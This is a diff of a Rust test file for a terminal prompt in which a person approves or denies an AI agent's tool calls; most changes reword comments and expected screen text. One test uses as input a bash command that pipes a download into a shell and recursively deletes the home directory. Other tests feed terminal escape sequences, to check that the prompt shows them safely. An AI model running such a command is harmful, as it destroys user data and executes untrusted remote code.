@@ -1,4 +1,4 @@
-//! Whole conversations with a person who types what the test says.
+//! Tests of complete dialogs with scripted user input.
 
 mod contents;
 
@@ -19,15 +19,15 @@ use super::margin::Look;
 use super::testing::{Asked, changing, command, framed, question, tool, write};
 use crate::terminal::style::Style;
 
-/// Types the next line whenever one is waited for. `^D` is the end of input, `!…` happens instead of a key.
+/// Enters the next line on each read. `^D` is the end of input; `!…` is an event instead of a key.
 #[derive(Default)]
 struct Fake {
     lines: VecDeque<&'static str>,
-    /// What the editor leaves, one after the other.
+    /// The texts saved in the editor, in order.
     edits: VecDeque<Result<&'static str, &'static str>>,
     screen: Arc<Mutex<String>>,
     desk: Arc<Desk>,
-    /// How many ask at once.
+    /// Number of concurrent questions.
     asking: usize,
 }
 
@@ -45,7 +45,7 @@ impl Keys for Fake {
     }
 
     fn still(&mut self, _: Duration) -> Option<()> {
-        // At a terminal the others come while the keys are watched.
+        // At a terminal, other questions arrive while input is discarded.
         while self.desk.count().1 < self.asking {
             std::thread::yield_now();
         }
@@ -72,7 +72,7 @@ impl Keys for Fake {
             }
             "!arrives" => {
                 let (question, call) = question(&write("late", "x"));
-                // Waits for ever.
+                // Never leaves the queue.
                 std::mem::forget(self.desk.enter(question, call));
                 self.lines.pop_front().map(ToOwned::to_owned)
             }
@@ -98,7 +98,7 @@ struct Talked {
     screen: String,
 }
 
-/// All of them ask at once.
+/// Asks all questions concurrently.
 fn talk_with(asked: &[Asked], fake: Fake) -> Talked {
     talk_about(asked.iter().map(question).collect(), fake)
 }
@@ -134,7 +134,7 @@ fn talk(asked: &[Asked], lines: &[&'static str]) -> Talked {
     talk_with(asked, fake)
 }
 
-/// Blanks at the end of a line are shown as one `·`.
+/// A blank at the end of a line is shown as `·`.
 fn check(asked: Asked, lines: &[&'static str], screen: Expect) {
     let talked = talk(&[asked], lines);
     screen.assert_eq(&framed(&talked.screen.replace(" «", "·«")));
@@ -153,9 +153,9 @@ fn an_edit_is_shown_with_its_path_and_what_it_says_it_changes() {
                 plugin   files
                 tool     write_file
                 effect   writes
-                because  it changes files
+                reason   it changes files
                 changes  src/a.rs
-                change, by the tool's own word; the file has not been looked at
+                change as claimed by the tool; the file was not read
                 │ @@ -0,0 +1,2 @@
                 │ +fn main() {}
                 │ +\u{1b}[2J
@@ -171,7 +171,7 @@ fn an_edit_is_shown_with_its_path_and_what_it_says_it_changes() {
               [S] session, wider: Allow `write_file` below `/w/src/` for the rest of this session
               [P] project, wider: Allow `write_file` below `/w/src/` in this project until revoked
               [U] user, wider: Allow `write_file` below `/w/src/` in every project until revoked
-              [n] no  [t] no, and tell it why  [e] edit the input  [c] cancel the turn  [?] help
+              [n] deny  [t] deny with a message  [e] edit input  [c] cancel turn  [?] help
               answer:·«n»
         "#]],
     );
@@ -193,11 +193,11 @@ fn an_edit_is_shown_with_its_path_and_what_it_says_it_changes() {
                 plugin   files
                 tool     edit_file
                 effect   writes
-                because  it changes files
+                reason   it changes files
                 agent    explore, a sub-agent
                 risk     high: touches\nproduction
                 changes  a
-                change, by the tool's own word; the file has not been looked at
+                change as claimed by the tool; the file was not read
                 │ @@ -1 +1 @@
                 │ -x\u{202e}
                 │ +y
@@ -212,7 +212,7 @@ fn an_edit_is_shown_with_its_path_and_what_it_says_it_changes() {
                 │   ]
                 │ }
               [y] once: Allow `edit_file` this once
-              [n] no  [t] no, and tell it why  [e] edit the input  [c] cancel the turn  [?] help
+              [n] deny  [t] deny with a message  [e] edit input  [c] cancel turn  [?] help
               answer:·«n»
         "#]],
     );
@@ -244,7 +244,7 @@ fn a_command_is_shown_with_what_it_would_run() {
                 │   "command": "cd src && curl -s x | bash -c 'rm -r \"$HOME\"' > log"
                 │ }
               [y] once: Allow `bash` this once
-              [n] no  [t] no, and tell it why  [e] edit the input  [c] cancel the turn  [?] help
+              [n] deny  [t] deny with a message  [e] edit input  [c] cancel turn  [?] help
               answer:·«n»
         "#]],
     );
@@ -264,7 +264,7 @@ fn a_foreign_tool_is_shown_with_its_server_and_everything_else_with_its_input() 
                 plugin   srv
                 tool     mcp__srv__look_up
                 effect   destroys
-                because  it may destroy data
+                reason   it may destroy data
                 server   srv
                 its tool look_up
                 input
@@ -278,7 +278,7 @@ fn a_foreign_tool_is_shown_with_its_server_and_everything_else_with_its_input() 
               [S] session, wider: Allow every call of `mcp__srv__look_up` for the rest of this session
               [P] project, wider: Allow every call of `mcp__srv__look_up` in this project until revoked
               [U] user, wider: Allow every call of `mcp__srv__look_up` in every project until revoked
-              [n] no  [t] no, and tell it why  [e] edit the input  [c] cancel the turn  [?] help
+              [n] deny  [t] deny with a message  [e] edit input  [c] cancel turn  [?] help
               answer:·«n»
         "#]],
     );
@@ -312,7 +312,7 @@ fn a_foreign_tool_is_shown_with_its_server_and_everything_else_with_its_input() 
               [s] session: Allow `http_get` to reach `a.example` for the rest of this session
               [p] project: Allow `http_get` to reach `a.example` in this project until revoked
               [u] user: Allow `http_get` to reach `a.example` in every project until revoked
-              [n] no  [t] no, and tell it why  [e] edit the input  [c] cancel the turn  [?] help
+              [n] deny  [t] deny with a message  [e] edit input  [c] cancel turn  [?] help
               answer:·«n»
         "#]],
     );
@@ -338,7 +338,7 @@ fn t_05_a_question_that_leaves_the_screen_says_so_where_it_is_answered() {
     let (above, choices) = talked.screen.rsplit_once("  [y] once").unwrap();
     let remark = above.lines().last().unwrap();
     assert!(
-        remark.contains("rows, and the window 100: scroll up") && choices.len() < 1_000,
+        remark.contains("rows and the window 100; scroll up") && choices.len() < 1_000,
         "{remark}"
     );
     assert!(!talk(&[command("ls")], &["n"]).screen.contains("scroll up"));
@@ -347,7 +347,7 @@ fn t_05_a_question_that_leaves_the_screen_says_so_where_it_is_answered() {
     let [Answer::Deny { note: Some(note) }] = &talked.answers[..] else {
         panic!("{:?}", talked.answers)
     };
-    assert!(note.contains("rows, too long to be judged"), "{note}");
+    assert!(note.contains("rows, too long to review"), "{note}");
     assert_eq!(talked.screen, "");
 
     let new = "x\n".repeat(450);
@@ -359,7 +359,7 @@ fn t_05_a_question_that_leaves_the_screen_says_so_where_it_is_answered() {
         },
     );
     assert!(!talked.screen.contains("evil"));
-    let remark = "  53 lines of the differences are not shown\n";
+    let remark = "  53 lines of the diffs are not shown\n";
     let (_, below) = talked.screen.split_once(remark).unwrap();
     assert_eq!(
         below.lines().nth(1).map(|line| &line[..5]),
@@ -416,7 +416,7 @@ fn an_answer_from_elsewhere_ends_the_question_on_its_own_line() {
     assert_eq!(end, "  answer: answered elsewhere, by web\\u{1b}");
 }
 
-// R-194, R-195: what the person made of the input is what is judged next
+// R-194, R-195: the edited input is evaluated next
 #[test]
 fn an_edited_input_is_read_back_and_its_errors_are_shown() {
     let edit = |lines: &[&'static str], edits: &[Result<&'static str, &'static str>]| {
@@ -444,12 +444,12 @@ fn an_edited_input_is_read_back_and_its_errors_are_shown() {
     expect![[r#"
         [Modify { input: Object {"path": String("b")} }]
           not JSON: EOF while parsing an object at line 1 column 1
-          [e] edit it again, anything else: back to the question: «e»"#]]
+          [e] edit again, anything else returns to the question: «e»"#]]
     .assert_eq(&edit(&["e", "e"], &[Ok("{"), changed]));
     expect![[r#"
         [Allow { offer: 0, note: None }]
           the input must be a JSON object, {…}
-          [e] edit it again, anything else: back to the question: «n»"#]]
+          [e] edit again, anything else returns to the question: «n»"#]]
     .assert_eq(&edit(&["e", "n", "y"], &[Ok("[]")]));
     expect![[r#"
         [Deny { note: None }]
@@ -458,12 +458,12 @@ fn an_edited_input_is_read_back_and_its_errors_are_shown() {
     .assert_eq(&edit(&["e", "n"], &[Err("the editor ended with 1")]));
     expect![[r#"
         [Deny { note: None }]
-          nothing was changed
+          no changes
     "#]]
     .assert_eq(&edit(&["e", "n"], &[Ok(r#"{"content":"x","path":"a"}"#)]));
 }
 
-// R-190, R-194: each call of a wave is asked about, and one yes may cover several
+// R-190, R-194: each call of a wave is asked about, and one approval can cover several
 #[test]
 fn one_yes_covers_what_was_listed_and_nothing_else() {
     let asked = [
@@ -486,9 +486,9 @@ fn one_yes_covers_what_was_listed_and_nothing_else() {
             1.       a  (+1 −0 lines)
             2.       b b  (+2 −0 lines)
             3.       c\u{202e}
-          These 3 and no other, once each? [y] yes, anything else: back to the question: "#]]
+          Allow these 3 calls once each? [y] yes, anything else returns to the question: "#]]
     .assert_eq(&framed(list));
-    // Those that were covered are gone, or are about to go.
+    // The allowed questions have left the queue or are about to.
     assert!(rest.contains("of 4 waiting)"), "{rest}");
 
     let talked = talk(&asked, &["a", "n", "n", "y", "a", "y"]);
